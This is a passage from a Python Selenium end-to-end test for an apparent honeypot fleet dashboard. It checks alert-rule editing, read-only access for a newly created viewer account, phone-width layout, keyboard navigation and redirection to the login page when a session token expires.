    dlg = wait(d, visible("dialog.modal"), what="edit rule dialog")
    dlg.find_element(By.NAME, "id").send_keys("e2e_redis")
    keys = dlg.find_element(By.NAME, "keys")
    keys.clear()
    keys.send_keys("kinds = command\nservices = redis\nseverity = critical")
    dlg.find_element(By.CSS_SELECTOR, 'button[type="submit"]').click()
    wait(d, text_in("#alert-rules", "e2e_redis"), what="custom rule listed after its edit")
    shot(d, "17c-alerts-rule")
    fresh(lambda: click(d, next(r for r in d.find_elements(By.CSS_SELECTOR, "#alert-rules tr")
                                if "e2e_redis" in r.text).find_element(By.CSS_SELECTOR, "button.al-rule-delete")),
          "rule delete button")
    confirm_dialog(d)
    wait(d, lambda drv: "e2e_redis" not in drv.find_element(By.ID, "alert-rules").text, what="custom rule deleted")

    # --- a viewer: created by the admin, forced change, read-only pages.
    goto(d, "/users", "Users")
    click(d, next(b for b in d.find_elements(By.CSS_SELECTOR, "main button") if b.text.startswith("Add user")))
    dlg = wait(d, visible("dialog.modal"), what="add user dialog")
    dlg.find_element(By.NAME, "username").send_keys("watcher")
    dlg.find_element(By.NAME, "password").send_keys("watcher-first-1")
    dlg.find_element(By.CSS_SELECTOR, 'button[type="submit"]').click()
    wait(d, text_in("#users", "watcher"), what="viewer created")
    click(d, d.find_element(By.ID, "logout"))
    wait(d, visible("#password"), what="login form after logout")
    d.find_element(By.ID, "username").clear()
    d.find_element(By.ID, "username").send_keys("watcher")
    d.find_element(By.ID, "password").send_keys("watcher-first-1" + Keys.ENTER)
    wait(d, visible("#new-password"), what="viewer forced change")
    d.find_element(By.ID, "new-password").send_keys("watcher-second-2")
    d.find_element(By.ID, "new-password2").send_keys("watcher-second-2" + Keys.ENTER)
    wait(d, text_in("main h1", "Overview"), what="viewer overview")
    nav = d.find_element(By.CSS_SELECTOR, "nav.side").text
    assert "Users" not in nav and "Webhooks" not in nav, nav
    goto(d, "/fleet", "Fleet")
    wait(d, css('#deckies tr[data-decky="web01"]'), what="viewer fleet table")
    assert not d.find_elements(By.ID, "ini-editor"), "viewer sees the INI editor"
    assert not [b for b in d.find_elements(By.CSS_SELECTOR, "#deckies button") if b.text in ("Mutate", "Teardown")], "viewer sees admin actions"
    shot(d, "19-viewer-fleet")
    goto(d, "/topologies", "Topologies")
    click(d, wait(d, EC.element_to_be_clickable((By.LINK_TEXT, "e2e-lab")), what="topology link in the list"))
    wait(d, text_in("#topo-status", "active"), what="viewer topology page")
    assert not [b for b in d.find_elements(By.CSS_SELECTOR, "main button") if b.text in ("+ Decky", "Teardown", "Remove decky")], "viewer sees topology actions"

    # --- phone width.
    d.set_window_size(390, 844)
    goto(d, "/", "Overview")
    wait(d, css("#counters .counter"), what="overview at phone width")
    shot(d, "20-phone-overview")
    d.find_element(By.CSS_SELECTOR, ".menu-btn").click()
    wait(d, visible("nav.side.open"), what="phone menu")
    shot(d, "21-phone-menu")
    d.set_window_size(1280, 800)

    # --- keyboard: the skip link and nav are reachable with Tab.
    d.get(BASE + "/fleet")
    wait(d, text_in("main h1", "Fleet"), what="fleet reload")
    d.find_element(By.TAG_NAME, "body").send_keys(Keys.TAB)
    assert d.switch_to.active_element.get_attribute("class") == "skip", d.switch_to.active_element.get_attribute("outerHTML")

    # --- an expired token sends you to the login page.
    drain(d)
    expired_phase = True
    d.execute_script("localStorage.setItem('decnet.token', 'expired.token.value')")
    d.get(BASE + "/attackers")
    wait(d, lambda x: "/login" in x.current_url and "expired=1" in x.current_url, what="expired token → login")
    wait(d, text_in(".login", "expired"), what="expired notice")
    shot(d, "22-expired-session")
    drain(d)


if __name__ == "__main__":
    try:
        main()
    except AssertionError as e:
        log("FAIL:", e)
        for f in failures:
            log("FAIL:", f)
        sys.exit(1)
    except Exception:
        traceback.print_exc()
        sys.exit(1)
